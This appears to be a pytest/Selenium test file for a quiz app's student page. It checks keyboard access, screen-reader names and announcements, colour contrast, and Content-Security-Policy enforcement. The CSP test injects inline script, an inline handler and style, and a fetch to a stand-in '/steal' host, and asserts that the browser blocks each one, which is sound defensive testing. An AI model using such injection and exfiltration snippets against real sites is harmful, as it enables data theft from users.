"""The student page in headless Chromium, by keyboard alone and as a screen reader reads it: every
question type answered with Tab, Enter and Space; focus that moves where a student looks next; a
name for every control; live regions for "answer received" and the reveal; colours readable in
the light and the dark scheme; and a Content-Security-Policy the browser really enforces."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support import expected_conditions as when
from selenium.webdriver.support.ui import WebDriverWait

from quizapp.classroom.results_file import read_results_file
from quizapp.ui.classroom.theme import contrast_ratio
from tests.conftest import FIXTURES
from tests.live import browser

pytestmark = browser.NEEDS_CHROMIUM
PIN = "135790"


@pytest.fixture
def live(tmp_path: Path) -> Iterator[browser.LiveCommand]:
    command = browser.LiveCommand(FIXTURES / "mini", tmp_path, PIN)
    yield command
    command.kill()


def focused(driver: WebDriver) -> WebElement:
    return driver.switch_to.active_element


def tab_to(driver: WebDriver, wanted: Callable[[WebElement], bool], limit: int = 12) -> WebElement:
    """Press Tab until the focused element is the wanted one (as a keyboard user would)."""
    for _ in range(limit):
        focused(driver).send_keys(Keys.TAB)
        if wanted(focused(driver)):
            return focused(driver)
    raise AssertionError(f"Tab never reached it; stuck at {focused(driver).get_attribute('outerHTML')}")


def labelled(text: str) -> Callable[[WebElement], bool]:
    """The control named ``text``, or ``text`` after the letter the board shows (``B Hillcross``)."""
    def named(element: WebElement) -> bool:
        name = element.accessible_name
        return name == text or (name.endswith(" " + text)
                                and name[:-len(text) - 1] in tuple("ABCDEFGHI"))
    return named


def announced(driver: WebDriver) -> str:
    """What the hidden live region last told a screen reader."""
    return str(driver.find_element(By.ID, "announce").get_attribute("textContent"))


def controls_in_tab_order(driver: WebDriver, area: str) -> list[str]:
    """The accessible names of the controls inside ``area``, in the order Tab visits them."""
    names: list[str] = []
    for _ in range(20):
        focused(driver).send_keys(Keys.TAB)
        element = focused(driver)
        inside = driver.execute_script(
            "return document.getElementById(arguments[0]).contains(arguments[1])", area, element)
        if not inside:
            if names:
                return names
            continue
        names.append(element.accessible_name)
    return names


def every_control_is_named(driver: WebDriver) -> None:
    for element in driver.find_elements(By.CSS_SELECTOR, "button, input, select, textarea, a"):
        if element.is_displayed():
            assert element.accessible_name.strip(), element.get_attribute("outerHTML")


def test_every_question_type_by_keyboard_with_names_and_sensible_focus(
        chromium: WebDriver, live: browser.LiveCommand) -> None:
    driver = chromium
    wait = WebDriverWait(driver, 15)
    driver.get(live.url)
    pin = focused(driver)
    assert (pin.get_attribute("id"), pin.accessible_name) == ("pin", "PIN")
    every_control_is_named(driver)
    pin.send_keys(PIN)
    pin.send_keys(Keys.TAB)
    assert focused(driver).accessible_name == "Name"
    focused(driver).send_keys("Ana")
    focused(driver).send_keys(Keys.TAB)
    assert (focused(driver).tag_name, focused(driver).accessible_name) == ("button", "Join")
    focused(driver).send_keys(Keys.ENTER)
    wait.until(when.visibility_of_element_located((By.ID, "wait-view")))
    assert focused(driver).get_attribute("id") == "wait-heading"
    assert driver.find_element(By.ID, "announce").get_attribute("role") == "status"
    assert driver.find_element(By.ID, "error").get_attribute("role") == "alert"

    def next_question(number: int) -> None:
        live.press()
        wait.until(when.text_to_be_present_in_element((By.ID, "q-number"),
                                                      f"Question {number} of 7"))
        wait.until(lambda d: focused(d).get_attribute("id") in ("q-prompt", "typed"))
        assert announced(driver) == ""  # no news of the last reveal
        assert driver.find_element(By.ID, "status").text == ""
        every_control_is_named(driver)

    def received_then_reveal() -> None:
        wait.until(when.text_to_be_present_in_element((By.ID, "status"), "Answer received"))
        wait.until(lambda d: announced(d) == "Answer received.")
        live.press()
        wait.until(when.visibility_of_element_located((By.ID, "reveal-view")))
        assert focused(driver).get_attribute("id") == "r-verdict"  # the reader starts there
        assert driver.find_element(By.ID, "r-verdict").text == "✔ Right!"
        wait.until(lambda d: "Right!" in announced(d))
        assert driver.find_element(By.ID, "status").text == ""  # the answer's news is old now

    next_question(1)  # single choice: the choices, in the order shown, are the Tab stops
    shown = [b.accessible_name for b in driver.find_elements(By.CSS_SELECTOR, "#q-answer button")]
    assert [name[0] for name in shown] == ["A", "B", "C"]  # the board's letters
    assert controls_in_tab_order(driver, "q-answer") == shown
    driver.find_element(By.ID, "q-prompt").click()  # back to the top, as after the question came
    tab_to(driver, labelled("Port Amber")).send_keys(Keys.ENTER)
    received_then_reveal()

    next_question(2)  # multiple: Space toggles (aria-pressed), then Send answer
    for town in ("Port Amber", "Hillcross"):
        choice = tab_to(driver, labelled(town))
        choice.send_keys(Keys.SPACE)
        assert choice.get_attribute("aria-pressed") == "true"
    tab_to(driver, labelled("Send answer")).send_keys(Keys.ENTER)
    received_then_reveal()

    next_question(3)  # true or false: was refused as "does not fit" before the page sent a boolean
    tab_to(driver, labelled("False")).send_keys(Keys.ENTER)
    received_then_reveal()

    for number, typed in ((4, "Hillcross"), (5, "12500")):  # typed answers: focus in the field
        next_question(number)
        field = focused(driver)
        assert (field.get_attribute("id"), field.accessible_name) == ("typed", "Your answer")
        field.send_keys(typed, Keys.ENTER)
        received_then_reveal()

    next_question(6)  # ordering: each pick moves the focus to the next choice, then to Send
    for town in ("Port Amber", "Hillcross", "Dunmoor"):
        tab_to(driver, labelled(town)).send_keys(Keys.ENTER)
    assert focused(driver).accessible_name == "Send answer"
    focused(driver).send_keys(Keys.ENTER)
    received_then_reveal()

    next_question(7)  # matching: for each item in turn, the year that goes with it
    for year in ("1802", "1850", "1901"):
        tab_to(driver, labelled(year)).send_keys(Keys.ENTER)
    assert focused(driver).accessible_name == "Send answer"
    focused(driver).send_keys(Keys.ENTER)
    received_then_reveal()

    live.press("q")
    wait.until(when.visibility_of_element_located((By.ID, "end-view")))
    assert focused(driver).get_attribute("id") == "end-heading"
    assert "you got 7 of 7 right" in driver.find_element(By.ID, "end-score").text
    live.finish()
    [saved] = sorted(live.results.glob("*.json"))
    assert read_results_file(saved).score == 7


def colour(css: str) -> str:
    """'rgb(27, 27, 31)' (a computed colour) as '#1b1b1f'."""
    parts = css[css.index("(") + 1:css.index(")")].split(",")
    return "#" + "".join(f"{int(float(p)):02x}" for p in parts[:3])


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_is_readable_in_the_light_and_the_dark_scheme(chromium: WebDriver,
                                                           live: browser.LiveCommand,
                                                           scheme: str) -> None:
    driver = chromium
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {
        "features": [{"name": "prefers-color-scheme", "value": scheme}]})
    driver.get(live.url)
    variables = driver.execute_script("""
        const probe = document.createElement('span');
        document.body.append(probe);
        const read = {};
        for (const name of ['bg', 'fg', 'muted', 'line', 'accent', 'accent-fg', 'right',
                            'right-bg', 'wrong', 'wrong-bg', 'chosen-bg', 'mark']) {
          probe.style.color = 'var(--' + name + ')';
          read[name] = getComputedStyle(probe).color;
        }
        probe.remove();
        return read;""")
    c = {name: colour(value) for name, value in variables.items()}
    body = driver.find_element(By.TAG_NAME, "body")
    assert colour(body.value_of_css_property("background-color")) == c["bg"]
    dark = contrast_ratio(c["bg"], "#000000") < contrast_ratio(c["bg"], "#ffffff")
    assert dark == (scheme == "dark")
    text_pairs = [("fg", "bg"), ("muted", "bg"), ("accent-fg", "accent"), ("right", "bg"),
                  ("wrong", "bg"), ("fg", "right-bg"), ("fg", "wrong-bg"), ("fg", "chosen-bg"),
                  ("fg", "mark"), ("right", "right-bg"), ("accent", "bg")]
    for text, background in text_pairs:
        ratio = contrast_ratio(c[text], c[background])
        assert ratio >= 4.5, f"{scheme}: {text} on {background} is {ratio:.2f}:1"
    assert contrast_ratio(c["line"], c["bg"]) >= 3.0  # borders of fields and buttons


def test_the_content_security_policy_is_enforced_by_the_browser(chromium: WebDriver,
                                                                live: browser.LiveCommand) -> None:
    """Injected inline script, handler and style, and anything from another address are blocked,
    and the browser reports each one as a violation."""
    driver = chromium
    driver.get(live.url)
    WebDriverWait(driver, 10).until(lambda d: focused(d).get_attribute("id") == "pin")
    driver.execute_script("""
        window.violations = [];
        document.addEventListener('securitypolicyviolation', (e) => {
          window.violations.push(e.violatedDirective + ' ' + (e.blockedURI || ''));
        });""")
    outcome = driver.execute_async_script("""
        const done = arguments[arguments.length - 1];
        const script = document.createElement('script');
        script.textContent = 'window.injected = true;';
        document.body.append(script);
        const style = document.createElement('style');
        style.textContent = 'body { background: rgb(255, 0, 0) !important; }';
        document.head.append(style);
        const handler = document.createElement('div');
        handler.setAttribute('onclick', 'window.clicked = true;');
        document.body.append(handler);
        handler.click();
        const image = document.createElement('img');
        image.src = 'http://198.51.100.7/tracker.png';
        document.body.append(image);
        fetch('http://198.51.100.7/steal').then(() => 'fetched', (e) => e.name).then((fetched) => {
          setTimeout(() => done({
            injected: window.injected === true, clicked: window.clicked === true, fetched: fetched,
            background: getComputedStyle(document.body).backgroundColor,
            violations: window.violations}), 300);
        });""")
    assert outcome["injected"] is False and outcome["clicked"] is False
    assert outcome["fetched"] == "TypeError"  # refused before any packet left
    assert outcome["background"] != "rgb(255, 0, 0)"
    kinds = {entry.split(" ")[0] for entry in outcome["violations"]}
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "img-src",
            "connect-src"} <= kinds, outcome["violations"]
    logged = " ".join(entry["message"] for entry in driver.get_log("browser"))  # type: ignore[no-untyped-call]
    assert "Content Security Policy" in logged
